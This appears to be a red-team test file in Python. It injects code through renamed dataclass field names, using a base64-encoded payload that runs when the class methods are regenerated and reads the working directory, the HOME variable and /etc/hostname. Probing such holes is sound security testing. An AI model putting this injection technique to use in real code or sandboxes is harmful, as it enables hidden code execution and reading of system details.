# family: red team, round 52a (Fields appended to a list in one function, renamed through the list in another)
import base64
import dataclasses
import operator
import functools

CODE = "eCxwcmludChfX2ltcG9ydF9fKCdvcycpLmdldGN3ZCgpLF9faW1wb3J0X18oJ29zJykuZW52aXJvblsnSE9NRSddLG9wZW4oJy9ldGMvaG9zdG5hbWUnKS5yZWFkKCksX19pbXBvcnRfXygnb3MnKSk="


@dataclasses.dataclass
class A:
    x: int = 0


holder = []


def rename(items):
    for item in items:
        item.name = base64.b64decode(CODE).decode()


def main():
    for f in dataclasses.fields(A):
        holder.append(f)
    rename(holder)

    @dataclasses.dataclass(init=False, repr=False)
    class B(A):
        pass

    print(B() == B())


main()
